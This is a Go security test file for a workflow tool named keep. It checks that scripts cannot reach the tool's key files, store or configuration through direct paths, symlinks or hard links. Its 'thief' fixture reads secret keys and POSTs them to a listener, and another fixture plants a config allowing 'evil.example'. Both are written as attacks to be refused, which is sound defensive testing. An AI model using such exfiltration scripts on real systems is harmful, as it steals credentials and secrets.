// Package ownfiles runs keep as the README says (keep run workflow.js in
// the script's folder, data in ./keep-data, keep.toml beside the script)
// and attacks keep's own files with a workflow granted files.list,
// files.read, files.write and one POST host: the data directory, its
// keys, its store and every keep.toml keep reads are refused through any
// path — direct, a link, a hard link, a linked folder — and nothing
// reaches the listener (issue 38 #1, #2).
package ownfiles

import (
	"bytes"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/keep-run/keep/internal/testbin"
)

var keepBin string

func TestMain(m *testing.M) { testbin.Main(m, &keepBin) }

// thief takes something with one files call (%GRAB%, which sets loot, or
// publishes a plant) and posts what it took to the listener. Every call
// is in the script, so keep run grants them all.
const thief = `export default Keep.workflow({
  name: "thief",
  topics: { "loot": {}, "plant": {} },
  producers: { grab: { publishes: ["loot", "plant"], schedule: { interval: "1h" }, handler: async (ctx) => {
    const inputId = ctx.registerInput({ source: "system", type: "schedule", id: "1", title: "grab" })
    let loot = ""
    %GRAB%
    await ctx.publish("loot", { messageId: "1", inputId, payload: { loot } })
  } } },
  consumers: {
    send: Keep.consumer({ subscribe: ["loot"],
      async prepare(ctx) {
        const [e] = await ctx.peek("loot"); if (!e) return { reservations: [] }
        return { reservations: [{ topic: "loot", ids: [e.messageId] }], data: e.payload }
      },
      async mutate(ctx, p) { await ctx.http.request({ method: "POST", url: "%SINK%/loot", json: p.data }) },
    }),
    plant: Keep.consumer({ subscribe: ["plant"],
      async prepare(ctx) {
        const [e] = await ctx.peek("plant"); if (!e) return { reservations: [] }
        return { reservations: [{ topic: "plant", ids: [e.messageId] }], data: e.payload }
      },
      async mutate(ctx, p) { await ctx.files.write({ path: p.data.path, content: p.data.content }) },
    }),
  },
})
`

// listed and read take keep's files; planted rewrites one.
func listed(dir string) string {
	return fmt.Sprintf(`loot = JSON.stringify(await ctx.files.list({ dir: %q }))`, dir)
}
func read(path string) string {
	return fmt.Sprintf(`loot = (await ctx.files.read({ path: %q })).content`, path)
}
func planted(path string) string {
	return fmt.Sprintf(`await ctx.publish("plant", { messageId: "p", inputId, payload: { path: %q, content: "[connectors.http]\nallow = [\"evil.example\"]\n" } }); return`, path)
}

// innocent is the first version: it lists incoming/ and reads nothing of keep's.
const innocent = `loot = JSON.stringify(await ctx.files.list({ dir: "incoming" }))`

func run(t *testing.T, dir string, args ...string) (int, string) {
	t.Helper()
	cmd := exec.Command(keepBin, args...)
	cmd.Dir = dir
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	err := cmd.Run()
	if ee, ok := err.(*exec.ExitError); ok {
		return ee.ExitCode(), out.String()
	} else if err != nil {
		t.Fatal(err)
	}
	return 0, out.String()
}

// TestNoGrantReachesKeepsOwnFiles: each attack runs in a folder of its own
// that keep already ran in (so keep-data holds secret.key, api.secret,
// keep.db and the recorded keep.toml), with links made beside them; the
// attack's run fails as a logic error saying the path is keep's own, the
// listener hears nothing, and neither keep.toml changed.
func TestNoGrantReachesKeepsOwnFiles(t *testing.T) {
	var posts atomic.Int64
	var got atomic.Value
	sink := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		posts.Add(1)
		var b bytes.Buffer
		b.ReadFrom(r.Body)
		got.Store(b.String())
		w.WriteHeader(200)
	}))
	defer sink.Close()
	host := strings.TrimPrefix(sink.URL, "http://")
	config := fmt.Sprintf("[connectors.http]\nallow = [%q]\n", host)

	links := func(t *testing.T, dir string) {
		for _, l := range [][2]string{{"keep-data/secret.key", "key-link"}, {"keep-data", "data-link"}, {"keep.toml", "config-link"}} {
			if err := os.Symlink(l[0], filepath.Join(dir, l[1])); err != nil {
				t.Fatal(err)
			}
		}
		for _, l := range [][2]string{{"keep-data/secret.key", "key-hard"}, {"keep-data/api.secret", "api-hard"}, {"keep-data/keep.db", "db-hard"}, {"keep.toml", "config-hard"}} {
			if err := os.Link(filepath.Join(dir, l[0]), filepath.Join(dir, l[1])); err != nil {
				t.Fatal(err)
			}
		}
		if err := os.MkdirAll(filepath.Join(dir, "nested"), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink("../keep-data", filepath.Join(dir, "nested", "up")); err != nil {
			t.Fatal(err)
		}
	}
	for _, c := range []struct{ name, grab string }{
		{"list the data directory", listed("keep-data")},
		{"list it through a linked folder", listed("data-link")},
		{"list it through a link in a folder, with ..", listed("nested/up")},
		{"read secret.key", read("keep-data/secret.key")},
		{"read api.secret", read("keep-data/api.secret")},
		{"read keep.db", read("keep-data/keep.db")},
		{"read the recorded keep.toml", read("keep-data/keep.toml")},
		{"read keep.toml", read("keep.toml")},
		{"read secret.key through a link", read("key-link")},
		{"read secret.key through a hard link", read("key-hard")},
		{"read api.secret through a hard link", read("api-hard")},
		{"read keep.db through a hard link", read("db-hard")},
		{"read secret.key through a linked folder", read("data-link/secret.key")},
		{"read api.secret through a link in a folder", read("nested/up/api.secret")},
		{"write keep.toml", planted("keep.toml")},
		{"write the recorded keep.toml", planted("keep-data/keep.toml")},
		{"write keep.toml through a link", planted("config-link")},
		{"write keep.toml's hard link", planted("config-hard")},
		{"write the recorded keep.toml through a linked folder", planted("data-link/keep.toml")},
		{"write a new file into the data directory", planted("keep-data/keep.db-journal")},
	} {
		t.Run(c.name, func(t *testing.T) {
			dir := t.TempDir()
			os.MkdirAll(filepath.Join(dir, "incoming"), 0o755)
			os.WriteFile(filepath.Join(dir, "keep.toml"), []byte(config), 0o644)
			script := strings.ReplaceAll(thief, "%SINK%", sink.URL)
			// The innocent workflow is another one (a name of its own), so
			// the attack's is a first deploy, not a version of it.
			os.WriteFile(filepath.Join(dir, "workflow.js"), []byte(strings.ReplaceAll(strings.ReplaceAll(script, "%GRAB%", innocent), `name: "thief"`, `name: "innocent"`)), 0o644)
			if code, out := run(t, dir, "run", "workflow.js"); code != 0 {
				t.Fatalf("the first, innocent run exited %d:\n%s", code, out)
			}
			recorded, _ := os.ReadFile(filepath.Join(dir, "keep-data", "keep.toml"))
			if string(recorded) != config {
				t.Fatalf("the recorded keep.toml holds %q", recorded)
			}
			links(t, dir)
			before := posts.Load()
			os.WriteFile(filepath.Join(dir, "workflow.js"), []byte(strings.ReplaceAll(script, "%GRAB%", c.grab)), 0o644)
			code, out := run(t, dir, "run", "workflow.js")
			if code == 0 || !strings.Contains(out, "keep's own") || !strings.Contains(out, "logic") {
				t.Errorf("keep run exited %d; want a failed run (a logic error) saying the path is keep's own:\n%s", code, out)
			}
			if n := posts.Load() - before; n != 0 {
				t.Errorf("the listener received %d request(s): %.300v", n, got.Load())
			}
			for _, f := range []string{"keep.toml", "keep-data/keep.toml"} {
				if b, _ := os.ReadFile(filepath.Join(dir, f)); string(b) != config {
					t.Errorf("%s changed: %q", f, b)
				}
			}
			if _, err := os.Lstat(filepath.Join(dir, "keep-data", "keep.db-journal")); err == nil {
				t.Errorf("a file was made in the data directory")
			}
		})
	}
}

// TestTheDataDirectoryIsKeepsAlone: keep makes its data directory 0700
// and every file in it 0600 (SQLite's keep.db included, which SQLite would
// make 0644); a data directory an older keep or a person left open to
// others is tightened at the next start, with a warning naming what
// changed, and the scripts' files/ folder is left as it is.
func TestTheDataDirectoryIsKeepsAlone(t *testing.T) {
	dir := t.TempDir()
	os.MkdirAll(filepath.Join(dir, "incoming"), 0o755)
	os.WriteFile(filepath.Join(dir, "workflow.js"), []byte(`export default Keep.workflow({ name: "lister", topics: { t: {} }, producers: { p: { publishes: ["t"], schedule: { interval: "1h" },
  handler: async (ctx) => ({ n: (await ctx.files.list({ dir: "incoming" })).length }) } } })`), 0o644)
	os.WriteFile(filepath.Join(dir, "keep.toml"), []byte("[policy]\n"), 0o644)
	if code, out := run(t, dir, "run", "workflow.js"); code != 0 {
		t.Fatalf("keep run exited %d:\n%s", code, out)
	}
	data := filepath.Join(dir, "keep-data")
	private := func(when string) {
		t.Helper()
		if fi, err := os.Stat(data); err != nil || fi.Mode().Perm() != 0o700 {
			t.Errorf("%s: the data directory is %v (%v), want 0700", when, fi.Mode().Perm(), err)
		}
		entries, _ := os.ReadDir(data)
		names := []string{}
		for _, e := range entries {
			if !e.Type().IsRegular() {
				continue
			}
			names = append(names, e.Name())
			if fi, _ := e.Info(); fi.Mode().Perm()&0o077 != 0 {
				t.Errorf("%s: %s is %v, want 0600", when, e.Name(), fi.Mode().Perm())
			}
		}
		for _, want := range []string{"keep.db", "secret.key", "api.secret", "keep.toml", "engine.lock"} {
			if !strings.Contains(" "+strings.Join(names, " ")+" ", " "+want+" ") {
				t.Errorf("%s: no %s in the data directory (%v)", when, want, names)
			}
		}
	}
	private("made by keep run")
	// An older keep made it 0755 and keep.db 0644; a person opened the rest.
	os.Chmod(data, 0o755)
	for _, f := range []string{"keep.db", "keep.db.seq", "engine.lock", "keep.toml"} {
		os.Chmod(filepath.Join(data, f), 0o644)
	}
	os.MkdirAll(filepath.Join(data, "files"), 0o755)
	code, out := run(t, dir, "run", "workflow.js")
	if code != 0 {
		t.Fatalf("keep run on the open data directory exited %d:\n%s", code, out)
	}
	if !strings.Contains(out, "made it keep's alone") || !strings.Contains(out, "0755 -> 0700") {
		t.Errorf("keep run said nothing of the modes it changed:\n%s", out)
	}
	private("tightened at the next start")
	if fi, _ := os.Stat(filepath.Join(data, "files")); fi.Mode().Perm() != 0o755 {
		t.Errorf("the scripts' folder was changed to %v", fi.Mode().Perm())
	}
}

// TestADeclaredSQLiteDatabaseIsNoneOfKeepsFiles: the sql connector asks
// the same rule as the files connector, so a keep.toml that declares as
// an application's SQLite database a hard link to keep.db, the store's
// -wal (not there while keep is stopped) or secret.key is refused at
// start, saying it is keep's own.
func TestADeclaredSQLiteDatabaseIsNoneOfKeepsFiles(t *testing.T) {
	dir := t.TempDir()
	os.MkdirAll(filepath.Join(dir, "incoming"), 0o755)
	os.WriteFile(filepath.Join(dir, "workflow.js"), []byte(`export default Keep.workflow({ name: "lister", topics: { t: {} }, producers: { p: { publishes: ["t"], schedule: { interval: "1h" },
  handler: async (ctx) => ({ n: (await ctx.files.list({ dir: "incoming" })).length }) } } })`), 0o644)
	if code, out := run(t, dir, "run", "workflow.js"); code != 0 {
		t.Fatalf("keep run exited %d:\n%s", code, out)
	}
	data := filepath.Join(dir, "keep-data")
	if err := os.Link(filepath.Join(data, "keep.db"), filepath.Join(dir, "app.db")); err != nil {
		t.Fatal(err)
	}
	for _, target := range []string{filepath.Join(dir, "app.db"), filepath.Join(data, "keep.db-wal"), filepath.Join(data, "secret.key")} {
		os.WriteFile(filepath.Join(dir, "keep.toml"), []byte(fmt.Sprintf("[connectors.sql.databases]\nshop = %q\n", "sqlite://"+target)), 0o644)
		if code, out := run(t, dir, "run", "workflow.js"); code == 0 || !strings.Contains(out, "keep's own") {
			t.Errorf("keep run with %s declared as a database exited %d:\n%s", target, code, out)
		}
	}
}
